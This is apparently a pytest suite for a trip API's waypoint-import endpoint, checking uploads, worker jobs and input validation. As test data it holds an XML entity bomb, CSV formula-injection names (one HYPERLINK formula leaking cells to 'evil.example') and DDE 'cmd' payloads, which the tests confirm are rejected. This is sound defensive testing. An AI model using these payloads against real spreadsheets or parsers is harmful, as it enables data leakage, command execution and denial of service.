"""`POST /v1/trips/{id}/waypoints/import`: checked upload -> 202 + job, then the worker's
`import_waypoints` run in-process against the same test transaction."""

from __future__ import annotations

import pytest
from arq.jobs import deserialize_job
from sqlalchemy import select
from trip_factories import missing_id, trip_body

from tripline_api.settings import ApiSettings
from tripline_common.data.models import Job, JobStatus, Waypoint
from tripline_common.messaging import JobQueue, create_redis
from tripline_worker.jobs.waypoint_import import import_waypoints

GOOD_CSV = b"lat,lon,name\n52.1,13.1,First stop\n52.2,13.2,\n52.3,13.3,Last stop\n"
GOOD_GPX = b"""<?xml version="1.0" encoding="UTF-8"?>
<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1">
  <wpt lat="53.1" lon="10.1"><name>Lunch</name></wpt>
  <wpt lat="53.2" lon="10.2"></wpt>
</gpx>
"""
BOMB_GPX = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gpx version="1.1"><wpt lat="1" lon="1"><name>&lol9;</name></wpt></gpx>
"""
MAX_BYTES = 4096


@pytest.fixture
def api_settings(make_settings) -> ApiSettings:
    return make_settings(ApiSettings, waypoint_import_max_bytes=MAX_BYTES)


@pytest.fixture
async def owner(make_user):
    return await make_user()


@pytest.fixture
async def headers(owner, auth_headers):
    return await auth_headers(owner)


@pytest.fixture
async def trip_id(client, headers) -> str:
    response = await client.post("/v1/trips", json=trip_body(), headers=headers)
    assert response.status_code == 201, response.text
    return response.json()["id"]


@pytest.fixture
async def worker_ctx(api_settings, session_factory):
    """What ARQ would pass the worker's job: here, the test's database and Redis."""
    redis = create_redis(api_settings)
    yield {
        "settings": api_settings,
        "session_factory": session_factory,
        "queue": JobQueue(redis, api_settings.arq_queue_name),
        "job_id": "test-job",
        "job_try": 1,
    }
    await redis.aclose()


async def upload(client, headers, trip_id, content: bytes, content_type: str, name="points"):
    return await client.post(
        f"/v1/trips/{trip_id}/waypoints/import",
        files={"file": (name, content, content_type)},
        headers=headers,
    )


async def waypoints_of(session_factory, trip_id) -> list[tuple]:
    async with session_factory() as session:
        rows = await session.execute(
            select(Waypoint.seq, Waypoint.lat, Waypoint.lon, Waypoint.name)
            .where(Waypoint.trip_id == trip_id)
            .order_by(Waypoint.seq)
        )
        return [tuple(r) for r in rows]


async def job_row(session_factory, job_id) -> Job:
    async with session_factory() as session:
        return await session.get(Job, job_id, populate_existing=True)


async def test_upload_answers_202_with_the_job_and_queues_it_with_the_request_id(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    response = await upload(
        client, {**headers, "X-Request-ID": "import-req-1"}, trip_id, GOOD_CSV, "text/csv"
    )
    assert response.status_code == 202, response.text
    body = response.json()
    assert body["status"] == "queued" and body["kind"] == "import_waypoints"
    assert response.headers["Location"] == f"/v1/jobs/{body['id']}"
    job = await job_row(session_factory, body["id"])
    assert job.params["trip_id"] == trip_id and job.params["format"] == "csv"
    assert job.request_id == response.headers["X-Request-ID"] == "import-req-1"
    queued = deserialize_job(await worker_ctx["queue"].redis.get(f"arq:job:{job.arq_job_id}"))
    assert queued.function == "import_waypoints" and queued.args == (body["id"],)
    assert queued.kwargs["request_id"] == "import-req-1"
    polled = await client.get(response.headers["Location"], headers=headers)
    assert polled.status_code == 200 and polled.json()["id"] == body["id"]


async def test_the_worker_replaces_the_waypoints_once_however_often_it_runs(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    response = await upload(client, headers, trip_id, GOOD_CSV, "text/csv")
    job_id = response.json()["id"]
    assert await import_waypoints(worker_ctx, job_id) == "succeeded"
    expected = [
        (0, 52.1, 13.1, "First stop"),
        (1, 52.2, 13.2, None),
        (2, 52.3, 13.3, "Last stop"),
    ]
    assert await waypoints_of(session_factory, trip_id) == expected  # Depot 7 is gone.
    job = await job_row(session_factory, job_id)
    assert job.status is JobStatus.SUCCEEDED and job.progress == 100
    assert job.result == {"imported": 3}
    # A second run of the same job (ARQ retried it) is a no-op; a new job with the same file
    # gives the same waypoints.
    assert await import_waypoints(worker_ctx, job_id) == "not_runnable"
    again = await upload(client, headers, trip_id, GOOD_CSV, "text/csv")
    assert await import_waypoints(worker_ctx, again.json()["id"]) == "succeeded"
    assert await waypoints_of(session_factory, trip_id) == expected
    polled = await client.get(f"/v1/jobs/{job_id}", headers=headers)
    assert polled.json()["result"] == {"imported": 3}


async def test_a_gpx_file_is_imported(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    response = await upload(client, headers, trip_id, GOOD_GPX, "application/gpx+xml")
    assert response.status_code == 202, response.text
    await import_waypoints(worker_ctx, response.json()["id"])
    assert await waypoints_of(session_factory, trip_id) == [
        (0, 53.1, 10.1, "Lunch"),
        (1, 53.2, 10.2, None),
    ]


async def test_a_bad_file_fails_the_job_with_line_errors_and_keeps_the_waypoints(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    before = await waypoints_of(session_factory, trip_id)
    bad = b"lat,lon,name\n52.1,13.1,ok\n95,13.2,too north\n52.3,east,not a number\n"
    response = await upload(client, headers, trip_id, bad, "text/csv")
    job_id = response.json()["id"]
    await import_waypoints(worker_ctx, job_id)
    job = await job_row(session_factory, job_id)
    assert job.status is JobStatus.FAILED
    assert "line 3: lat must be between -90 and 90" in job.error
    assert "line 4: lon 'east' is not a number" in job.error
    assert await waypoints_of(session_factory, trip_id) == before
    polled = await client.get(f"/v1/jobs/{job_id}", headers=headers)
    assert polled.json()["status"] == "failed" and "line 3" in polled.json()["error"]


# Names a request may not hold: a spreadsheet formula (quoted: it holds commas), a formula
# after leading blanks, and a control character (BEL) inside a name.
HOSTILE_NAMES_CSV = (
    b"lat,lon,name\n"
    b"52.1,13.1,ok\n"
    b'52.2,13.2,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"\n'
    b"52.3,13.3,  +cmd|' /C calc'!A0\n"
    b"52.4,13.4,bell\x07inside\n"
)
HOSTILE_NAMES_GPX = b"""<?xml version="1.0" encoding="UTF-8"?>
<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1">
  <wpt lat="53.1" lon="10.1"><name>@SUM(1+1)*cmd|' /C calc'!A0</name></wpt>
  <wpt lat="53.2" lon="10.2"><name>tab\tinside</name></wpt>
</gpx>
"""


async def test_names_a_request_may_not_hold_fail_the_import_line_by_line(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    before = await waypoints_of(session_factory, trip_id)
    csv_job = (await upload(client, headers, trip_id, HOSTILE_NAMES_CSV, "text/csv")).json()["id"]
    gpx_job = (
        await upload(client, headers, trip_id, HOSTILE_NAMES_GPX, "application/gpx+xml")
    ).json()["id"]
    await import_waypoints(worker_ctx, csv_job)
    await import_waypoints(worker_ctx, gpx_job)
    csv_error = (await job_row(session_factory, csv_job)).error
    gpx_error = (await job_row(session_factory, gpx_job)).error
    formula = "name must not start with =, +, - or @ (a spreadsheet formula)"
    control = "name must not contain control characters"
    assert csv_error.splitlines()[1:] == [
        f"line 3: {formula}",
        f"line 4: {formula}",
        f"line 5: {control}",
    ]
    assert gpx_error.splitlines()[1:] == [f"wpt 1: {formula}", f"wpt 2: {control}"]
    assert await waypoints_of(session_factory, trip_id) == before
    polled = await client.get(f"/v1/jobs/{csv_job}", headers=headers)
    assert polled.json()["status"] == "failed" and "line 3" in polled.json()["error"]


async def test_too_many_waypoints_fail_the_job(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    rows = "".join(f"52.{i:02d},13.0,p{i}\n" for i in range(51))
    response = await upload(client, headers, trip_id, f"lat,lon,name\n{rows}".encode(), "text/csv")
    await import_waypoints(worker_ctx, response.json()["id"])
    job = await job_row(session_factory, response.json()["id"])
    assert job.status is JobStatus.FAILED and "at most 50" in job.error


async def test_an_xml_entity_bomb_is_refused_safely(
    client, headers, trip_id, session_factory, worker_ctx
) -> None:
    before = await waypoints_of(session_factory, trip_id)
    response = await upload(client, headers, trip_id, BOMB_GPX, "application/gpx+xml")
    assert response.status_code == 202, response.text
    await import_waypoints(worker_ctx, response.json()["id"])
    job = await job_row(session_factory, response.json()["id"])
    assert job.status is JobStatus.FAILED and "DTD or entities" in job.error
    assert await waypoints_of(session_factory, trip_id) == before


async def test_a_file_over_the_limit_is_413_before_any_job(
    client, headers, trip_id, session_factory
) -> None:
    big = b"lat,lon,name\n" + b"52.1,13.1,x\n" * (MAX_BYTES // 10)
    response = await upload(client, headers, trip_id, big, "text/csv")
    assert response.status_code == 413, response.text
    body = response.json()
    assert set(body) == {"code", "message", "details", "request_id"}
    assert body["code"] == "file_too_large"
    async with session_factory() as session:
        assert (await session.scalars(select(Job))).all() == []


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (GOOD_CSV, "image/png"),  # A type we do not take.
        (b"\x89PNG\r\n\x1a\n\x00\x00", "text/csv"),  # Says CSV, is not.
        (GOOD_GPX, "text/csv"),  # Says CSV, is GPX.
        (GOOD_CSV, "application/gpx+xml"),  # Says GPX, is CSV.
        (b"name,city\nx,y\n", "text/csv"),  # A CSV without lat/lon.
    ],
)
async def test_wrong_types_are_415(client, headers, trip_id, content, content_type) -> None:
    response = await upload(client, headers, trip_id, content, content_type)
    assert response.status_code == 415, response.text
    assert response.json()["code"] in {"unsupported_file_type", "file_content_mismatch"}


async def test_v2_takes_the_same_upload(client, headers, trip_id, session_factory) -> None:
    response = await client.post(
        f"/v2/trips/{trip_id}/waypoints/import",
        files={"file": ("points.csv", GOOD_CSV, "text/csv")},
        headers=headers,
    )
    assert response.status_code == 202, response.text
    assert "Deprecation" not in response.headers
    assert response.headers["Location"] == f"/v1/jobs/{response.json()['id']}"


async def test_a_generic_type_is_sniffed(client, headers, trip_id) -> None:
    response = await upload(client, headers, trip_id, GOOD_GPX, "application/octet-stream")
    assert response.status_code == 202, response.text


async def test_someone_elses_or_a_missing_trip_is_404(
    client, trip_id, make_user, auth_headers
) -> None:
    stranger = await auth_headers(await make_user())
    for target in (trip_id, missing_id()):
        response = await upload(client, stranger, target, GOOD_CSV, "text/csv")
        assert response.status_code == 404, response.text
        assert response.json()["code"] == "trip_not_found"
